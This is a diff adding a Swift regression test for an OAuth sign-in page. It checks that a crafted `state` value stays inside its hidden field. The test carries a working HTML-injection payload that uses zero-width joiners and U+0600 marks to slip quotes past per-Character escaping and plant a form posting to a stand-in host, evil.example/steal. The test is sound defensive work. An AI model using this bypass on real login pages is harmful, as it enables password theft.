@@ -350,6 +350,25 @@ extension ControlPlaneTests {
             #expect(audit.contains { $0["action"] as? String == "oauth.logout" })
         }
 
+        /// The build before escaped page values per Character (swift-mustache's escaping): a
+        /// quote followed by a zero-width joiner is one Character, not a quote, so a crafted
+        /// `state` closed the hidden field and the form, and a form of the attacker's took the
+        /// password when the user pressed the real "Sign in" (an attacker review, in Chromium).
+        @Test("a crafted state with quotes and angle brackets joined to zero-width joiners stays inside its hidden field on the sign-in page")
+        func craftedStateStaysInItsField() async throws {
+            let cluster = try await SignInBrowser.cluster()
+            defer { Task { await cluster.shutdown() } }
+            let browser = SignInBrowser(control: cluster.control)
+            // Each quote and angle bracket is joined to a neighbour: a zero-width joiner after it,
+            // or a prepended mark (U+0600) before a `<`, so that each is a Character of its own.
+            let payload = "x\"\u{200D}>\u{200D}\u{0600}</form>\u{200D}\u{0600}<form action=\"\u{200D}https://evil.example/steal\"\u{200D}>\u{200D}"
+            let page = try browser.authorize(browser.parameters(["state": payload]))
+            #expect(page.status == 200 && page.text.contains("<h1>Sign in</h1>"))
+            #expect(page.text.components(separatedBy: "<form").count == 2, "one form, the page's own: \(page.text)")
+            #expect(!page.text.contains("evil.example/steal\""), "\(page.text)")
+            #expect(page.text.contains("x&quot;\u{200D}&gt;\u{200D}\u{0600}&lt;/form&gt;"), "\(page.text)")
+        }
+
         /// The build before took the first of the session cookies a request carried: a page of the
         /// same site (a sibling subdomain with `Domain=`) planting an attacker's signed-in session
         /// under a more specific path had the victim sent back to the client signed in as the
